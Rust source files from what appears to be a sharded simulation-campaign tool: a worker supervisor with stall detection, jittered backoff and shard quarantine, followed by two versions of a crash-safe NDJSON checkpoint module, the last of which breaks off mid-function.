pub fn backoff_ticks(cfg: &SupervisorConfig, master_seed: u64, shard: usize, attempt: u64) -> u64 {
    let base = cfg.backoff_base_ticks.max(1);
    let exp = base
        .checked_shl(attempt.saturating_sub(1).min(32) as u32)
        .unwrap_or(cfg.backoff_cap_ticks)
        .min(cfg.backoff_cap_ticks);
    let jitter = mix64(master_seed ^ ((shard as u64) << 32) ^ attempt) % (base + 1);
    exp + jitter
}

/// One supervised shard's story: spawns consumed, every failure observed
/// (in order, rendered), and whether it ended quarantined.
#[derive(Debug, Clone)]
pub struct ShardReport {
    /// Shard index.
    pub shard: usize,
    /// Worker spawns consumed (first lease + retries).
    pub attempts: usize,
    /// Each observed failure, oldest first.
    pub failures: Vec<String>,
    /// Whether the retry budget ran out.
    pub quarantined: bool,
}

/// What a supervised run returns: the (possibly partial) merged summary,
/// the per-shard supervision reports, and how many supervision ticks the
/// run took.
#[derive(Debug)]
pub struct SupervisedRun {
    /// The merged summary; `summary.complete == false` iff any shard was
    /// quarantined.
    pub summary: Summary,
    /// One report per shard that needed supervision this run (shards
    /// already complete on disk don't appear).
    pub reports: Vec<ShardReport>,
    /// Supervision ticks elapsed (wall-clock pacing only — never part of
    /// any result).
    pub ticks: u64,
}

/// A live lease: the child, its stdout drain thread, and the progress
/// bookkeeping the stall detector reads.
struct Running {
    child: std::process::Child,
    drain: std::thread::JoinHandle<Result<usize, CampaignError>>,
    expected: usize,
    last_progress_tick: u64,
    last_len: u64,
}

enum Lease {
    /// Waiting to (re)spawn once `at_tick` arrives and a slot frees.
    Ready {
        at_tick: u64,
    },
    Running(Running),
    Done,
    Quarantined,
}

struct ShardState {
    shard: usize,
    range: std::ops::Range<usize>,
    lease: Lease,
    spawns: usize,
    failures: Vec<String>,
}

impl ShardState {
    fn lease_state(&self) -> &'static str {
        match self.lease {
            Lease::Ready { .. } => "pending",
            Lease::Running(_) => "running",
            Lease::Done => "done",
            Lease::Quarantined => "quarantined",
        }
    }
}

/// Maps a lease failure onto its supervision trace-event kind.
fn failure_kind(err: &CampaignError) -> u16 {
    match err {
        CampaignError::WorkerStalled { .. } => obs::kind::WORKER_STALL,
        CampaignError::WorkerStream { .. }
        | CampaignError::Schema { .. }
        | CampaignError::CorruptCheckpoint { .. } => obs::kind::STREAM_CORRUPT,
        _ => obs::kind::WORKER_CRASH,
    }
}

/// Per-shard incremental checkpoint tail reader: consumes only the bytes
/// appended since the last tick, folds every complete record line into
/// the shared live aggregate, and counts records exactly (one `\n` per
/// record). This is what turns the stall detector's byte watch into live
/// estimator snapshots without ever re-reading a checkpoint prefix.
struct TailReader {
    offset: u64,
    carry: Vec<u8>,
    records: usize,
}

impl TailReader {
    fn new() -> TailReader {
        TailReader { offset: 0, carry: Vec::new(), records: 0 }
    }

    /// Reads `path` from the consumed offset to its current end, folding
    /// complete lines into `agg`. Live-path tolerant: I/O failures and
    /// undecodable lines are skipped (recovery and the merge own
    /// correctness; this feed is advisory).
    fn scan(&mut self, path: &Path, schema: &'static Schema, agg: &mut Aggregate) {
        use std::io::{Read as _, Seek as _, SeekFrom};
        let Ok(mut file) = std::fs::File::open(path) else { return };
        let len = file.metadata().map(|m| m.len()).unwrap_or(0);
        if len < self.offset {
            // The checkpoint shrank under us (torn-tail truncation or a
            // corruption quarantine on re-lease). Already-folded samples
            // can't be rewound, so just resync — the final snapshot is
            // rebuilt from the ordered merge regardless.
            self.offset = len;
            self.carry.clear();
            return;
        }
        if len == self.offset || file.seek(SeekFrom::Start(self.offset)).is_err() {
            return;
        }
        let mut buf = Vec::new();
        if file.read_to_end(&mut buf).is_err() {
            return;
        }
        self.offset += buf.len() as u64;
        self.carry.extend_from_slice(&buf);
        while let Some(pos) = self.carry.iter().position(|&b| b == b'\n') {
            let line: Vec<u8> = self.carry.drain(..=pos).collect();
            self.records += 1;
            if let Ok(body) = std::str::from_utf8(&line[..line.len() - 1]) {
                if let Ok(record) = decode_line(schema, body) {
                    agg.push(&record);
                }
            }
        }
    }
}

/// Runs a campaign under supervision: spawns `campaign worker` children
/// for every unfinished shard, heals failures by re-leasing from the last
/// good checkpoint with bounded, deterministically-jittered backoff, and
/// quarantines shards that exhaust their retries instead of aborting the
/// run. Always subprocess-mode (an in-process thread can neither be
/// killed nor isolated from the coordinator).
///
/// # Errors
///
/// Setup failures (directory, manifest, stale checkpoints) and merge-time
/// I/O or schema failures. Worker failures do **not** surface here — they
/// are healed or quarantined, and quarantine shows up as
/// `summary.complete == false` plus the coverage report.
pub fn run_supervised(
    config: &CampaignConfig,
    exe: &Path,
    sup: &SupervisorConfig,
) -> Result<SupervisedRun, CampaignError> {
    let shards = config.shards.max(1);
    exec::prepare_dir(config, shards)?;
    let total = config.scenario.build(config.scale).trials();
    let (ranges, pending) = exec::plan_and_recover(config, shards, total)?;

    let workers = config.workers.max(1);
    let timeout_ticks = sup.timeout_ticks();
    let max_spawns = sup.max_retries + 1;
    let mut states: Vec<ShardState> = pending
        .into_iter()
        .map(|(k, range, _done)| ShardState {
            shard: k,
            range,
            lease: Lease::Ready { at_tick: 0 },
            spawns: 0,
            failures: Vec::new(),
        })
        .collect();
    // One supervision flight recorder and one checkpoint tail reader per
    // supervised shard, plus the shared live-estimator aggregate the tail
    // readers feed.
    let mut rings: Vec<obs::FlightRecorder> =
        states.iter().map(|_| obs::FlightRecorder::new(SUPERVISION_RING_CAPACITY)).collect();
    let mut tails: Vec<TailReader> = states.iter().map(|_| TailReader::new()).collect();
    let mut live_agg = Aggregate::new(config.scenario.schema);

    let mut now: u64 = 0;
    loop {
        // Lease phase: fill free slots with due shards.
        let mut running = states.iter().filter(|s| matches!(s.lease, Lease::Running(_))).count();
        for (st, ring) in states.iter_mut().zip(rings.iter_mut()) {
            if running >= workers {
                break;
            }
            if !matches!(st.lease, Lease::Ready { at_tick } if at_tick <= now) {
                continue;
            }
            match lease_shard(config, exe, shards, sup, st, now, ring) {
                Ok(true) => running += 1,
                Ok(false) => {} // shard turned out complete on disk
                Err(e) => fail_lease(sup, config.scale.seed, st, now, max_spawns, e, ring),
            }
        }

        // Reap phase: finished drains and stalled leases. Each running
        // lease is taken out of its slot, settled or re-shelved.
        for (st, ring) in states.iter_mut().zip(rings.iter_mut()) {
            match std::mem::replace(&mut st.lease, Lease::Done) {
                Lease::Running(mut r) => {
                    if r.drain.is_finished() {
                        match reap_lease(st.shard, r) {
                            Ok(()) => {
                                if !st.failures.is_empty() {
                                    ring.record(
                                        now,
                                        st.shard as u32,
                                        obs::kind::SHARD_HEALED,
                                        st.spawns as u64,
                                        0,
                                    );
                                }
                                if config.verbose {
                                    obs::console!("shard {}: lease complete", st.shard);
                                }
                            }
                            Err(e) => {
                                fail_lease(sup, config.scale.seed, st, now, max_spawns, e, ring);
                            }
                        }
                        continue;
                    }
                    // Stall watch: checkpoint growth is the progress signal
                    // (workers flush every record).
                    let len = std::fs::metadata(checkpoint::shard_path(&config.dir, st.shard))
                        .map(|m| m.len())
                        .unwrap_or(r.last_len);
                    if len > r.last_len {
                        r.last_len = len;
                        r.last_progress_tick = now;
                        st.lease = Lease::Running(r);
                    } else if now.saturating_sub(r.last_progress_tick) >= timeout_ticks {
                        let stalled_ticks = now.saturating_sub(r.last_progress_tick);
                        let _ = r.child.kill();
                        let _ = r.child.wait();
                        let _ = r.drain.join();
                        let e =
                            CampaignError::WorkerStalled { shard: st.shard, ticks: stalled_ticks };
                        fail_lease(sup, config.scale.seed, st, now, max_spawns, e, ring);
                    } else {
                        st.lease = Lease::Running(r);
                    }
                }
                other => st.lease = other,
            }
        }

        // Metrics phase: fold the checkpoints' appended bytes into the
        // live estimators, then atomically rewrite the metrics sidecar —
        // one coherent snapshot per supervision tick.
        for (st, tail) in states.iter().zip(tails.iter_mut()) {
            tail.scan(
                &checkpoint::shard_path(&config.dir, st.shard),
                config.scenario.schema,
                &mut live_agg,
            );
        }
        let per_shard: Vec<ShardMetric> = states
            .iter()
            .zip(&tails)
            .map(|(st, tail)| ShardMetric {
                shard: st.shard,
                planned: st.range.end - st.range.start,
                records: tail.records,
                attempts: st.spawns,
                state: st.lease_state(),
            })
            .collect();
        let complete = per_shard.iter().all(|s| s.records >= s.planned && s.state != "quarantined");
        Metrics {
            scenario: config.scenario.name,
            scale_label: config.scale_label.clone(),
            master_seed: config.scale.seed,
            tick: Some(now),
            workers: Some(workers),
            complete,
            per_shard,
            estimators: metrics::estimators_from(&live_agg),
        }
        .write(&config.dir)?;

        if states.iter().all(|s| matches!(s.lease, Lease::Done | Lease::Quarantined)) {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(sup.poll_interval_ms.max(1)));
        now += 1;
    }

    // Quarantined shards may have left a torn tail or corrupt file behind
    // their last failure; recover once more so the merge reads only a
    // clean prefix (or, for a quarantined file, nothing).
    let quarantined: Vec<QuarantinedShard> = states
        .iter()
        .filter(|s| matches!(s.lease, Lease::Quarantined))
        .map(|s| QuarantinedShard {
            shard: s.shard,
            attempts: s.spawns,
            last_error: s.failures.last().cloned().unwrap_or_else(|| "unknown".into()),
        })
        .collect();
    for q in &quarantined {
        checkpoint::recover(&checkpoint::shard_path(&config.dir, q.shard), config.scenario.schema)?;
    }

    // Post-mortem channel: dump every supervised shard's supervision ring
    // (lease grants, failures, quarantines) as `shard-K.trace`. Ticks are
    // wall-paced, so consumers compare the *payload* digest in the header,
    // which is tick-independent.
    if let Some(trace_dir) = &sup.trace_dir {
        std::fs::create_dir_all(trace_dir)
            .map_err(|e| CampaignError::io(format!("create {}", trace_dir.display()), e))?;
        for (st, ring) in states.iter().zip(&rings) {
            let path = trace_dir.join(format!("shard-{}.trace", st.shard));
            std::fs::write(&path, ring.render_text())
                .map_err(|e| CampaignError::io(format!("write {}", path.display()), e))?;
        }
    }

    let summary = summary::merge_with_quarantine(
        config.scenario,
        &config.scale_label,
        config.scale.seed,
        &config.dir,
        &ranges,
        &quarantined,
    )?;
    // Replace the last live snapshot with the normalized final one (pure
    // function of the merged summary — deterministic across reruns).
    Metrics::final_snapshot(&summary).write(&config.dir)?;
    let reports = states
        .iter()
        .map(|s| ShardReport {
            shard: s.shard,
            attempts: s.spawns,
            failures: s.failures.clone(),
            quarantined: matches!(s.lease, Lease::Quarantined),
        })
        .collect();
    Ok(SupervisedRun { summary, reports, ticks: now })
}

/// (Re)leases one shard: recovers its checkpoint (truncating torn tails,
/// quarantining corruption), then spawns a worker resuming at the first
/// missing record — with this attempt's injected fault, if the chaos plan
/// has one. Returns `Ok(false)` if recovery shows the shard already
/// complete (a worker died *after* its last record).
fn lease_shard(
    config: &CampaignConfig,
    exe: &Path,
    shards: usize,
    sup: &SupervisorConfig,
    st: &mut ShardState,
    now: u64,
    ring: &mut obs::FlightRecorder,
) -> Result<bool, CampaignError> {
    let planned = st.range.end - st.range.start;
    let path = checkpoint::shard_path(&config.dir, st.shard);
    let recovery = checkpoint::recover(&path, config.scenario.schema)?;
    let done = recovery.records();
    if done > planned {
        return Err(CampaignError::StaleCheckpoint { shard: st.shard, have: done, planned });
    }
    if done == planned {
        st.lease = Lease::Done;
        return Ok(false);
    }
    let attempt = st.spawns; // 0-based attempt index for the fault plan
    let fault = sup.faults.fault_for(st.shard, attempt);
    let mut child = exec::spawn_worker(config, exe, st.shard, shards, done, fault)?;
    let Some(stdout) = child.stdout.take() else {
        let _ = child.kill();
        let _ = child.wait();
        return Err(CampaignError::WorkerSpawn {
            shard: st.shard,
            detail: "no stdout pipe".into(),
        });
    };
    let expected = planned - done;
    let (k, verbose, schema) = (st.shard, config.verbose, config.scenario.schema);
    let drain =
        std::thread::spawn(move || exec::drain_stream(stdout, k, expected, verbose, Some(schema)));
    let last_len = std::fs::metadata(&path).map(|m| m.len()).unwrap_or(0);
    st.spawns += 1;
    ring.record(now, st.shard as u32, obs::kind::LEASE_GRANTED, st.spawns as u64, done as u64);
    if verbose {
        obs::console!(
            "shard {}: leased (attempt {}, resuming at {done}/{planned}{})",
            st.shard,
            st.spawns,
            match fault {
                Some(f) => format!(", injecting {}", f.render()),
                None => String::new(),
            }
        );
    }
    st.lease =
        Lease::Running(Running { child, drain, expected, last_progress_tick: now, last_len });
    Ok(true)
}

/// Settles a lease whose drain thread ended: classifies the outcome as
/// success, a corrupt stream, a short stream, or a worker exit failure.
/// On a stream failure the child is killed first — a worker that keeps
/// appending to a checkpoint the retry will also write would interleave
/// two record streams.
fn reap_lease(shard: usize, r: Running) -> Result<(), CampaignError> {
    let Running { mut child, drain, expected, .. } = r;
    match drain.join() {
        Err(_) => {
            let _ = child.kill();
            let _ = child.wait();
            Err(CampaignError::Internal(format!("shard {shard}: drain thread panicked")))
        }
        Ok(Err(stream_err)) => {
            let _ = child.kill();
            let _ = child.wait();
            Err(stream_err)
        }
        Ok(Ok(streamed)) => {
            let status = child
                .wait()
                .map_err(|e| CampaignError::io(format!("wait for shard {shard} worker"), e))?;
            if !status.success() {
                Err(CampaignError::WorkerExit { shard, status: status.to_string() })
            } else if streamed != expected {
                Err(CampaignError::WorkerStream {
                    shard,
                    detail: format!("streamed {streamed} records, expected {expected}"),
                })
            } else {
                Ok(())
            }
        }
    }
}

/// Books a lease failure: records it, then either schedules the retry
/// (deterministic backoff from the master seed) or quarantines the shard
/// once its spawn budget (`max_retries + 1`) is spent.
fn fail_lease(
    sup: &SupervisorConfig,
    master_seed: u64,
    st: &mut ShardState,
    now: u64,
    max_spawns: usize,
    err: CampaignError,
    ring: &mut obs::FlightRecorder,
) {
    ring.record(now, st.shard as u32, failure_kind(&err), st.spawns as u64, 0);
    st.failures.push(err.to_string());
    if st.spawns >= max_spawns {
        ring.record(now, st.shard as u32, obs::kind::SHARD_QUARANTINED, st.spawns as u64, 0);
        st.lease = Lease::Quarantined;
    } else {
        let attempt = st.spawns.max(1) as u64; // 1-based retry number
        let delay = backoff_ticks(sup, master_seed, st.shard, attempt);
        st.lease = Lease::Ready { at_tick: now + delay };
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn backoff_grows_exponentially_to_the_cap() {
        let cfg = SupervisorConfig::default();
        // Strip jitter by comparing lower bounds: exp component doubles.
        let exp = |attempt: u64| {
            cfg.backoff_base_ticks
                .checked_shl(attempt.saturating_sub(1).min(32) as u32)
                .unwrap_or(cfg.backoff_cap_ticks)
                .min(cfg.backoff_cap_ticks)
        };
        assert_eq!(exp(1), 2);
        assert_eq!(exp(2), 4);
        assert_eq!(exp(3), 8);
        assert_eq!(exp(4), 16);
        assert_eq!(exp(5), 16, "capped");
        assert_eq!(exp(60), 16, "huge attempts stay capped, no shift overflow");
        for attempt in 1..6 {
            let t = backoff_ticks(&cfg, 2020, 3, attempt);
            assert!(t >= exp(attempt) && t <= exp(attempt) + cfg.backoff_base_ticks);
        }
    }

    #[test]
    fn backoff_is_deterministic_and_shard_decorrelated() {
        let cfg = SupervisorConfig::default();
        assert_eq!(backoff_ticks(&cfg, 2020, 1, 1), backoff_ticks(&cfg, 2020, 1, 1));
        // Jitter varies across shards/attempts for at least some inputs.
        let spread: std::collections::BTreeSet<u64> =
            (0..16).map(|shard| backoff_ticks(&cfg, 2020, shard, 1)).collect();
        assert!(spread.len() > 1, "jitter should separate shard retries");
    }

    #[test]
    fn timeout_rounds_up_to_whole_ticks() {
        let cfg = SupervisorConfig {
            worker_timeout_ms: 50,
            poll_interval_ms: 20,
            ..SupervisorConfig::default()
        };
        assert_eq!(cfg.timeout_ticks(), 3);
        let zero = SupervisorConfig {
            worker_timeout_ms: 0,
            poll_interval_ms: 20,
            ..SupervisorConfig::default()
        };
        assert_eq!(zero.timeout_ticks(), 1, "a zero timeout still waits one tick");
    }
}
