//! Shard checkpoint files: the durable record streams a campaign is
//! resumed and merged from.
//!
//! Layout: the campaign directory holds one `shard-<k>.ndjson` per shard
//! (plus `summary.json` once the coordinator has merged). A checkpoint
//! file contains **only** complete, schema-conforming record lines —
//! nothing else — so concatenating the files in shard order *is* the
//! merged campaign stream.
//!
//! Crash safety: workers append one line per completed trial with a flush
//! per record. A worker killed mid-write can leave a torn final line;
//! [`recover`] validates every line against the schema and rewrites the
//! file to its longest valid prefix before the shard is resumed, so a
//! resumed stream is byte-identical to an uninterrupted one.

use std::fs::{self, File};
use std::io::{BufRead, BufReader, Read as _, Write};
use std::path::{Path, PathBuf};

use crate::record::{decode_line, Schema};

/// The checkpoint file for shard `k`.
pub fn shard_path(dir: &Path, shard: usize) -> PathBuf {
    dir.join(format!("shard-{shard}.ndjson"))
}

/// The merged-summary path for a campaign directory.
pub fn summary_path(dir: &Path) -> PathBuf {
    dir.join("summary.json")
}

/// The campaign-manifest path: which campaign this directory's
/// checkpoints belong to.
pub fn manifest_path(dir: &Path) -> PathBuf {
    dir.join("manifest.json")
}

fn render_manifest(scenario: &str, scale_spec: &str, shards: usize) -> String {
    format!(
        "{{ \"campaign\": \"{scenario}\", \"scale_spec\": \"{scale_spec}\", \
         \"shards\": {shards} }}\n"
    )
}

/// Guards resume against a mismatched directory: a shard checkpoint is
/// only a valid prefix of the *same* campaign (scenario, full scale spec
/// including the master seed, and shard plan). On the first run this
/// writes the manifest; on a rerun it compares and refuses any mismatch —
/// otherwise old shard files would be silently reinterpreted under the new
/// plan, duplicating some global indices and dropping others.
///
/// # Errors
///
/// I/O failures, a manifest mismatch, or checkpoints with no manifest.
pub fn check_manifest(
    dir: &Path,
    scenario: &str,
    scale_spec: &str,
    shards: usize,
) -> Result<(), String> {
    let path = manifest_path(dir);
    let want = render_manifest(scenario, scale_spec, shards);
    match fs::read_to_string(&path) {
        Ok(found) if found == want => Ok(()),
        Ok(found) => Err(format!(
            "{}: this directory belongs to a different campaign\n  found:    {}  expected: {}\
             rerun with --fresh or a new --out",
            dir.display(),
            found,
            want
        )),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            // No manifest: only adopt the directory if it has no shard
            // checkpoints of unknown provenance.
            if let Some(stray) = existing_shard_files(dir)?.first() {
                return Err(format!(
                    "{}: found checkpoint {} but no manifest — not resuming a directory of \
                     unknown provenance; rerun with --fresh or a new --out",
                    dir.display(),
                    stray.display()
                ));
            }
            fs::write(&path, want).map_err(|e| format!("{}: {e}", path.display()))
        }
        Err(e) => Err(format!("{}: {e}", path.display())),
    }
}

fn existing_shard_files(dir: &Path) -> Result<Vec<PathBuf>, String> {
    let mut out = Vec::new();
    let entries = match fs::read_dir(dir) {
        Ok(entries) => entries,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(out),
        Err(e) => return Err(format!("{}: {e}", dir.display())),
    };
    for entry in entries {
        let entry = entry.map_err(|e| format!("{}: {e}", dir.display()))?;
        let name = entry.file_name();
        let name = name.to_string_lossy();
        if name.starts_with("shard-") && name.ends_with(".ndjson") {
            out.push(entry.path());
        }
    }
    out.sort();
    Ok(out)
}

/// Validates a shard checkpoint and returns how many complete records it
/// already holds. A trailing torn or foreign line (interrupted worker) is
/// discarded by rewriting the file to its longest valid prefix; an invalid
/// line *followed by further lines* is an error — that is not a torn
/// tail, it is a corrupt or mismatched checkpoint (e.g. a stale directory
/// from a different scenario or scale).
///
/// # Errors
///
/// I/O failures and mid-file corruption.
pub fn recover(path: &Path, schema: &Schema) -> Result<usize, String> {
    let file = match File::open(path) {
        Ok(f) => f,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(0),
        Err(e) => return Err(format!("{}: {e}", path.display())),
    };
    let mut reader = BufReader::new(file);
    let mut valid = 0usize;
    let mut valid_bytes = 0u64;
    let mut line = String::new();
    loop {
        line.clear();
        let n = reader.read_line(&mut line).map_err(|e| format!("{}: {e}", path.display()))?;
        if n == 0 {
            break;
        }
        let complete = line.ends_with('\n');
        let body = line.trim_end_matches('\n');
        if complete && decode_line(schema, body).is_ok() {
            valid += 1;
            valid_bytes += n as u64;
            continue;
        }
        // First invalid or unterminated line: only acceptable at the tail.
        let mut rest = String::new();
        reader.read_to_string(&mut rest).map_err(|e| format!("{}: {e}", path.display()))?;
        if !rest.is_empty() {
            return Err(format!(
                "{}: corrupt record at line {} (not a torn tail) — refusing to resume; \
                 delete the campaign directory or rerun with --fresh",
                path.display(),
                valid + 1
            ));
        }
        // Torn tail: drop it.
        drop(reader);
        truncate_to(path, valid_bytes)?;
        return Ok(valid);
    }
    Ok(valid)
}

fn truncate_to(path: &Path, len: u64) -> Result<(), String> {
    let file =
        File::options().write(true).open(path).map_err(|e| format!("{}: {e}", path.display()))?;
    file.set_len(len).map_err(|e| format!("{}: {e}", path.display()))?;
    Ok(())
}

/// An append-mode writer for one shard's checkpoint, flushing per record
/// so every completed trial survives a kill.
pub struct Appender {
    file: File,
}

impl Appender {
    /// Opens (creating if absent) the shard checkpoint for appending.
    ///
    /// # Errors
    ///
    /// I/O failures.
    pub fn open(path: &Path) -> Result<Appender, String> {
        let file = File::options()
            .append(true)
            .create(true)
            .open(path)
            .map_err(|e| format!("{}: {e}", path.display()))?;
        Ok(Appender { file })
    }

    /// Appends one record line (adds the newline) and flushes it to the
    /// OS so the record is durable against a process kill.
    ///
    /// # Errors
    ///
    /// I/O failures.
    pub fn append_line(&mut self, line: &str) -> Result<(), String> {
        let mut buf = Vec::with_capacity(line.len() + 1);
        buf.extend_from_slice(line.as_bytes());
        buf.push(b'\n');
        self.file.write_all(&buf).map_err(|e| e.to_string())?;
        self.file.flush().map_err(|e| e.to_string())
    }
}

/// Removes a campaign directory's shard checkpoints (all of them,
/// whatever shard plan wrote them), manifest and summary — the `--fresh`
/// path. Missing files are fine.
///
/// # Errors
///
/// I/O failures other than "not found".
pub fn wipe(dir: &Path) -> Result<(), String> {
    for path in existing_shard_files(dir)? {
        remove_if_present(&path)?;
    }
    remove_if_present(&manifest_path(dir))?;
    remove_if_present(&summary_path(dir))?;
    Ok(())
}

fn remove_if_present(path: &Path) -> Result<(), String> {
    match fs::remove_file(path) {
        Ok(()) => Ok(()),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(()),
        Err(e) => Err(format!("{}: {e}", path.display())),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::{encode_line, Field, FieldKind, Record, Value};

    const SCHEMA: &Schema = &[Field { name: "x", kind: FieldKind::U64 }];

    fn tmp(name: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("campaign-ckpt-{}-{name}", std::process::id()));
        fs::create_dir_all(&dir).expect("mkdir");
        dir
    }

    fn line(x: u64) -> String {
        encode_line(SCHEMA, &Record(vec![Value::U64(x)]))
    }

    #[test]
    fn append_then_recover_counts_records() {
        let dir = tmp("count");
        let path = shard_path(&dir, 0);
        let mut a = Appender::open(&path).expect("open");
        for x in 0..5 {
            a.append_line(&line(x)).expect("append");
        }
        drop(a);
        assert_eq!(recover(&path, SCHEMA).expect("recover"), 5);
        fs::remove_dir_all(dir).ok();
    }

    #[test]
    fn torn_tail_is_dropped_and_resume_appends_cleanly() {
        let dir = tmp("torn");
        let path = shard_path(&dir, 1);
        let mut a = Appender::open(&path).expect("open");
        a.append_line(&line(1)).expect("append");
        drop(a);
        // Simulate a kill mid-write: a partial line without newline.
        let mut f = File::options().append(true).open(&path).expect("open");
        f.write_all(b"{\"x\":4").expect("tear");
        drop(f);
        assert_eq!(recover(&path, SCHEMA).expect("recover"), 1);
        // The file is now exactly the valid prefix; appending resumes it.
        let mut a = Appender::open(&path).expect("reopen");
        a.append_line(&line(2)).expect("append");
        drop(a);
        let content = fs::read_to_string(&path).expect("read");
        assert_eq!(content, format!("{}\n{}\n", line(1), line(2)));
        fs::remove_dir_all(dir).ok();
    }

    #[test]
    fn mid_file_corruption_refuses_to_resume() {
        let dir = tmp("corrupt");
        let path = shard_path(&dir, 2);
        fs::write(&path, format!("{}\ngarbage\n{}\n", line(1), line(2))).expect("write");
        let err = recover(&path, SCHEMA).expect_err("must refuse");
        assert!(err.contains("line 2"), "{err}");
        fs::remove_dir_all(dir).ok();
    }

    #[test]
    fn missing_file_is_zero_records() {
        let dir = tmp("missing");
        assert_eq!(recover(&shard_path(&dir, 9), SCHEMA).expect("recover"), 0);
        fs::remove_dir_all(dir).ok();
    }
}
