//! Shard checkpoint files: the durable record streams a campaign is
//! resumed and merged from.
//!
//! Layout: the campaign directory holds one `shard-<k>.ndjson` per shard
//! (plus `summary.json` once the coordinator has merged). A checkpoint
//! file contains **only** complete, schema-conforming record lines —
//! nothing else — so concatenating the files in shard order *is* the
//! merged campaign stream.
//!
//! Crash safety: workers append one line per completed trial with a flush
//! per record. A worker killed mid-write can leave a torn final line;
//! [`recover`] validates every line against the schema and rewrites the
//! file to its longest valid prefix before the shard is resumed, so a
//! resumed stream is byte-identical to an uninterrupted one.
//!
//! Quarantine: an invalid record *before* the final line is not a torn
//! tail — it is mid-file corruption (a garbage-writing worker, a bad
//! disk, a foreign file). Rather than refusing the whole campaign
//! directory, [`recover`] renames the bad file to `shard-<k>.ndjson.corrupt`
//! and reports [`Recovery::Quarantined`]; the shard restarts from offset 0
//! while every other shard's resume is kept. Trials are pure functions of
//! the global index, so the rerun reproduces the stream bit-identically.

use std::fs::{self, File};
use std::io::{BufRead, BufReader, Read as _, Write};
use std::path::{Path, PathBuf};

use crate::error::CampaignError;
use crate::record::{decode_line, Schema};

/// The checkpoint file for shard `k`.
pub fn shard_path(dir: &Path, shard: usize) -> PathBuf {
    dir.join(format!("shard-{shard}.ndjson"))
}

/// Where a corrupt shard checkpoint is quarantined (the original path
/// with `.corrupt` appended).
pub fn corrupt_path(path: &Path) -> PathBuf {
    let mut name = path.as_os_str().to_owned();
    name.push(".corrupt");
    PathBuf::from(name)
}

/// The merged-summary path for a campaign directory.
pub fn summary_path(dir: &Path) -> PathBuf {
    dir.join("summary.json")
}

/// The campaign-manifest path: which campaign this directory's
/// checkpoints belong to.
pub fn manifest_path(dir: &Path) -> PathBuf {
    dir.join("manifest.json")
}

fn render_manifest(scenario: &str, scale_spec: &str, shards: usize) -> String {
    format!(
        "{{ \"campaign\": \"{scenario}\", \"scale_spec\": \"{scale_spec}\", \
         \"shards\": {shards} }}\n"
    )
}

/// Guards resume against a mismatched directory: a shard checkpoint is
/// only a valid prefix of the *same* campaign (scenario, full scale spec
/// including the master seed, and shard plan). On the first run this
/// writes the manifest; on a rerun it compares and refuses any mismatch —
/// otherwise old shard files would be silently reinterpreted under the new
/// plan, duplicating some global indices and dropping others.
///
/// # Errors
///
/// I/O failures, a manifest mismatch, or checkpoints with no manifest.
pub fn check_manifest(
    dir: &Path,
    scenario: &str,
    scale_spec: &str,
    shards: usize,
) -> Result<(), CampaignError> {
    let path = manifest_path(dir);
    let want = render_manifest(scenario, scale_spec, shards);
    match fs::read_to_string(&path) {
        Ok(found) if found == want => Ok(()),
        Ok(found) => {
            Err(CampaignError::ManifestMismatch { dir: dir.to_path_buf(), found, expected: want })
        }
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            // No manifest: only adopt the directory if it has no shard
            // checkpoints of unknown provenance.
            if let Some(stray) = existing_shard_files(dir)?.first() {
                return Err(CampaignError::UnknownProvenance {
                    dir: dir.to_path_buf(),
                    stray: stray.clone(),
                });
            }
            fs::write(&path, want)
                .map_err(|e| CampaignError::io(format!("write {}", path.display()), e))
        }
        Err(e) => Err(CampaignError::io(format!("read {}", path.display()), e)),
    }
}

fn existing_shard_files(dir: &Path) -> Result<Vec<PathBuf>, CampaignError> {
    let mut out = Vec::new();
    let entries = match fs::read_dir(dir) {
        Ok(entries) => entries,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(out),
        Err(e) => return Err(CampaignError::io(format!("read dir {}", dir.display()), e)),
    };
    for entry in entries {
        let entry =
            entry.map_err(|e| CampaignError::io(format!("read dir {}", dir.display()), e))?;
        let name = entry.file_name();
        let name = name.to_string_lossy();
        if name.starts_with("shard-")
            && (name.ends_with(".ndjson") || name.ends_with(".ndjson.corrupt"))
        {
            out.push(entry.path());
        }
    }
    out.sort();
    Ok(out)
}

/// What [`recover`] found in a shard checkpoint.
#[derive(Debug, PartialEq, Eq)]
pub enum Recovery {
    /// The file is (now) a clean prefix of the shard's stream: this many
    /// complete records, any torn tail already dropped.
    Clean(usize),
    /// Mid-file corruption: the file was renamed aside and the shard must
    /// restart at record 0.
    Quarantined {
        /// Where the corrupt file went (`shard-<k>.ndjson.corrupt`).
        quarantined_to: PathBuf,
        /// 1-based line number of the first invalid record.
        line: usize,
    },
}

impl Recovery {
    /// Records the shard can resume from (0 after a quarantine).
    pub fn records(&self) -> usize {
        match self {
            Recovery::Clean(n) => *n,
            Recovery::Quarantined { .. } => 0,
        }
    }
}

/// Validates a shard checkpoint and reports how the shard may resume.
///
/// * Every line valid → [`Recovery::Clean`] with the record count.
/// * A torn or foreign **final** line (interrupted worker) → the tail is
///   dropped by rewriting the file to its longest valid prefix, and the
///   prefix count is returned as [`Recovery::Clean`].
/// * An invalid line *followed by further lines* → mid-file corruption:
///   the file is renamed to `<name>.corrupt` and
///   [`Recovery::Quarantined`] is returned, so the shard re-runs from
///   offset 0 while the rest of the campaign keeps its resume.
///
/// # Errors
///
/// I/O failures only — corruption is a quarantine, not an error.
pub fn recover(path: &Path, schema: &Schema) -> Result<Recovery, CampaignError> {
    let file = match File::open(path) {
        Ok(f) => f,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Recovery::Clean(0)),
        Err(e) => return Err(CampaignError::io(format!("open {}", path.display()), e)),
    };
    let mut reader = BufReader::new(file);
    let mut valid = 0usize;
    let mut valid_bytes = 0u64;
    // Raw bytes, not `read_line`: corrupt checkpoints can hold non-UTF-8
    // bytes, and those must classify as corruption (torn tail or
    // quarantine), never as an unrecoverable read error.
    let mut line: Vec<u8> = Vec::new();
    loop {
        line.clear();
        let n = reader
            .read_until(b'\n', &mut line)
